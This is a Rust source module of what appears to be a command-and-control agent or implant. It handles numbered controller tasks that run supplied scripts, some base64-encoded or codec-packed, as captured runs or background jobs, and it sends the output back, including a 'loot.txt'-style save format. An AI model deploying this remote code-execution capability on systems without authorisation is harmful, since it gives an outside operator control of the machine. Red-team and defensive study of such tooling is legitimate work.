//! Dynamic-code tasks: the captured script runs (100/101/102/121), the
//! packed-assembly execute (44), and the background script job (110).
//!
//! All dynamic code goes through the subprocess script engine; nothing is
//! ever evaluated inside this process. Failures carry the captured output in
//! the error text so partial results are never lost.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use tokio::process::Child;
use tokio_util::sync::CancellationToken;

use crate::agent::Agent;
use crate::codec;
use crate::error::{TaskError, TransferError};
use crate::jobs::OutputBuffer;
use crate::packet::ResponseChannel;
use crate::script::{ScriptOutput, stream_lines};
use crate::tasks::TaskKind;

/// Fixed-width header of a type-101 body: a 15-char file-name prefix and a
/// 5-char extension, both space-padded.
const SAVE_PREFIX_LEN: usize = 15;
const SAVE_EXT_LEN: usize = 5;

impl Agent {
    /// Tasks 100 and 118: run source captured, respond on the arriving code
    /// with the merged output.
    pub(crate) async fn handle_script_run(
        &self,
        kind: TaskKind,
        data: &str,
        id: &str,
    ) -> Result<(), TaskError> {
        let output = self.run_script_captured(data).await?;
        self.responses.send(kind.code(), &output, id).await?;
        Ok(())
    }

    /// Task 101: like 100, but the response carries the padded prefix and
    /// extension followed by the base64 codec-packed output, ready for the
    /// controller to write to disk.
    pub(crate) async fn handle_script_run_save(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let header_len = SAVE_PREFIX_LEN + SAVE_EXT_LEN;
        let (Some(prefix), Some(extension), Some(source)) = (
            data.get(..SAVE_PREFIX_LEN),
            data.get(SAVE_PREFIX_LEN..header_len),
            data.get(header_len..),
        ) else {
            return Err(TaskError::Malformed(format!(
                "save-output body shorter than its {header_len}-char header"
            )));
        };

        let output = self.run_script_captured(source).await?;
        let packed = BASE64.encode(codec::encode(output.as_bytes())?);
        let body = format!(
            "{:<width_p$}{:<width_e$}{packed}",
            prefix.trim(),
            extension.trim(),
            width_p = SAVE_PREFIX_LEN,
            width_e = SAVE_EXT_LEN,
        );
        self.responses
            .send(TaskKind::ScriptRunSave.code(), &body, id)
            .await?;
        Ok(())
    }

    /// Task 102: write the source to a scratch file, run it as
    /// `interpreter <file>`, delete the file, respond with the output.
    pub(crate) async fn handle_script_run_disk(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let path = std::env::temp_dir().join(format!("outpost-{}.script", uuid::Uuid::new_v4()));
        tokio::fs::write(&path, data).await?;

        let search_paths = self.modules.search_paths().await;
        let result = self.script.run_file(&path, &search_paths).await;
        // Scratch file goes away on every path.
        let _ = tokio::fs::remove_file(&path).await;

        let output = check_script_result(result?)?;
        self.responses
            .send(TaskKind::ScriptRunDisk.code(), &output, id)
            .await?;
        Ok(())
    }

    /// Task 121: base64-encoded source, run captured.
    pub(crate) async fn handle_script_command(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let raw = BASE64.decode(data.trim())?;
        let source = String::from_utf8_lossy(&raw).into_owned();
        let output = self.run_script_captured(&source).await?;
        self.responses
            .send(TaskKind::ScriptCommand.code(), &output, id)
            .await?;
        Ok(())
    }

    /// Task 44: body `"{base64(codec(script))}[,args...]"`. The script is
    /// CRC-verified, then run as a tracked background job with its output
    /// streamed onto the type-110 channel.
    pub(crate) async fn handle_packed_execute(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let mut fields = data.split(',');
        let packed = fields
            .next()
            .ok_or_else(|| TaskError::Malformed("empty packed-execute body".into()))?;
        let args: Vec<String> = fields.map(|s| s.to_string()).collect();

        let raw = BASE64.decode(packed.trim())?;
        let decoded = codec::decode(&raw)?;
        if !decoded.crc_ok {
            return Err(TransferError::IntegrityCheck.into());
        }
        let source = String::from_utf8_lossy(&decoded.data).into_owned();

        self.start_script_job(id, "packed-execute", source, args, false)
            .await
    }

    /// Task 110: run source as a background job. Output streams into the job
    /// buffer; a type-110 completion notice carries the correlation id.
    pub(crate) async fn handle_job_start(&self, data: &str, id: &str) -> Result<(), TaskError> {
        self.start_script_job(id, "script", data.to_string(), Vec::new(), true)
            .await
    }

    /// Run source through the engine and fold a nonzero exit status into a
    /// `ScriptFailed` error that still carries the captured output.
    async fn run_script_captured(&self, source: &str) -> Result<String, TaskError> {
        let search_paths = self.modules.search_paths().await;
        let output = self.script.run_captured(source, &[], &search_paths).await?;
        check_script_result(output)
    }

    /// Spawn a streaming script run under the job table.
    async fn start_script_job(
        &self,
        id: &str,
        kind: &str,
        source: String,
        args: Vec<String>,
        completion_notice: bool,
    ) -> Result<(), TaskError> {
        let search_paths = self.modules.search_paths().await;
        let arg_refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let child = self
            .script
            .spawn_streaming(&source, &arg_refs, &search_paths)
            .await?;

        let sink = self.output.clone();
        let responses = self.responses.clone();
        let correlation_id = id.to_string();

        self.jobs
            .start(id, kind, move |cancel| async move {
                pump_script_job(child, sink, responses, correlation_id, completion_notice, cancel)
                    .await;
            })
            .await?;
        Ok(())
    }
}

fn check_script_result(output: ScriptOutput) -> Result<String, TaskError> {
    if output.success() {
        Ok(output.output)
    } else {
        Err(TaskError::ScriptFailed {
            status: output.status,
            output: output.output,
        })
    }
}

async fn pump_script_job(
    child: Child,
    sink: OutputBuffer,
    responses: ResponseChannel,
    correlation_id: String,
    completion_notice: bool,
    cancel: CancellationToken,
) {
    let status = match stream_lines(child, &sink, &cancel).await {
        Ok(status) => status,
        Err(e) => {
            sink.append(&format!("script job failed: {e}")).await;
            return;
        }
    };
    if cancel.is_cancelled() {
        return;
    }
    if completion_notice {
        let notice = format!("job finished with status {status}");
        if let Err(e) = responses
            .send(crate::packet::RESPONSE_JOB_OUTPUT, &notice, &correlation_id)
            .await
        {
            tracing::warn!(job = %correlation_id, "Failed to send completion notice: {e}");
        }
    } else if status != 0 {
        sink.append(&format!("packed execute exited with status {status}"))
            .await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_save_header_splits_padded_fields() {
        let body = format!("{:<15}{:<5}{}", "loot.txt", "txt", "print('x')");
        assert_eq!(body.get(..15).unwrap().trim(), "loot.txt");
        assert_eq!(body.get(15..20).unwrap().trim(), "txt");
        assert_eq!(body.get(20..).unwrap(), "print('x')");
    }

    #[test]
    fn test_check_script_result_success_passes_output() {
        let out = ScriptOutput {
            status: 0,
            output: "all good".to_string(),
        };
        assert_eq!(check_script_result(out).unwrap(), "all good");
    }

    #[test]
    fn test_check_script_result_failure_keeps_partial_output() {
        let out = ScriptOutput {
            status: 2,
            output: "partial work".to_string(),
        };
        let err = check_script_result(out).unwrap_err();
        let text = err.to_string();
        assert!(text.contains("status 2"));
        assert!(text.contains("partial work"));
    }

    #[test]
    fn test_packed_body_splits_payload_and_args() {
        let packed = BASE64.encode(codec::encode(b"echo hi").unwrap());
        let body = format!("{packed},first,second");
        let mut fields = body.split(',');
        let raw = BASE64.decode(fields.next().unwrap()).unwrap();
        let decoded = codec::decode(&raw).unwrap();
        assert!(decoded.crc_ok);
        assert_eq!(decoded.data, b"echo hi");
        assert_eq!(fields.collect::<Vec<_>>(), vec!["first", "second"]);
    }
}
